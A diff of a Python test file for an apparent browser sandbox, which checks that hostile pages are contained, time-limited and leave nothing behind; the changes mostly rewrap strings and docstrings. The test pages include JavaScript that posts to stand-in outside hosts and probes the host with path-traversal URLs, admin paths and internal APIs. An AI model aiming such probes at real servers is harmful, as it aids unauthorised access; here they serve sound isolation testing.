@@ -1,4 +1,4 @@
-"""Pages that misbehave: each ends with a verdict within its time, reaches nothing of this machine and leaves nothing behind."""
+"""Bad pages: each ends with a verdict in time, reaches nothing on this machine and leaves nothing behind."""
 
 from __future__ import annotations
 
@@ -37,7 +37,7 @@ HOSTS = (
 
 @pytest.fixture(autouse=True)
 def _nothing_is_left(homes: Path) -> Iterator[None]:
-    """Afterwards no process knows the folder of the browsers' homes, and it is empty: the next page, which is the next test's, finds the machine as it was."""
+    """Fail a test after which a process or a file of its browsers is left."""
     yield
     assert mentioning(str(homes)) == []
     assert list(homes.iterdir()) == []
@@ -103,7 +103,8 @@ def test_a_host_that_leads_to_this_machine_is_not_followed(machine: Machine) -> 
             "/round.example/": Script(302, {"location": "/round.example/"}),
         }
         body = (
-            "<p id=x></p><script>fetch('https://away.example/'); fetch('https://away.example/post', { method: 'POST', body: 'x' });"
+            "<p id=x></p><script>fetch('https://away.example/'); "
+            "fetch('https://away.example/post', { method: 'POST', body: 'x' });"
             "fetch('https://round.example/')</script><iframe src='https://away.example/'></iframe>"
         )
         report = verified(replace(machine, mirror=mirror.url("").rstrip("/")), Bad("redirects", body))
@@ -122,7 +123,8 @@ def test_large_and_endless_answers_are_cut(machine: Machine) -> None:
     }
     with HttpServer(scripts) as mirror:
         body = (
-            "<p id=x></p><script>fetch('https://large.example/').then(a => a.blob()).then(b => { window.size = b.size }, () => { window.size = -1 });"
+            "<p id=x></p><script>fetch('https://large.example/').then(a => a.blob()).then(b => "
+            "{ window.size = b.size }, () => { window.size = -1 });"
             "new EventSource('https://endless.example/')</script>"
         )
         large = Bad("large", body, checks=("window.size === -1",))
@@ -134,8 +136,10 @@ def test_large_and_endless_answers_are_cut(machine: Machine) -> None:
 def test_the_live_page_sees_nothing_of_our_host_but_pages(machine: Machine) -> None:
     attack = (
         "<p id=x></p><script>fetch('data.csv').then(a => a.text()).then(t => { document.body.dataset.t = t });"
-        " const TARGETS = ['/admin', '/pages/o/r/..%2f..%2f..%2fadmin', '/pages/../git', ''].map(path => location.origin + path);"
-        " fetch('/api/rounds'); fetch('/handle_task', { method: 'POST', body: '{}' }); TARGETS.push(location.origin.replace('127.0.0.1', 'localhost'));"
+        " const TARGETS = ['/admin', '/pages/o/r/..%2f..%2f..%2fadmin', '/pages/../git', ''].map(path => "
+        "location.origin + path);"
+        " fetch('/api/rounds'); fetch('/handle_task', { method: 'POST', body: '{}' }); "
+        "TARGETS.push(location.origin.replace('127.0.0.1', 'localhost'));"
         f"{REACH}</script>"
     )
     with HttpServer() as host:
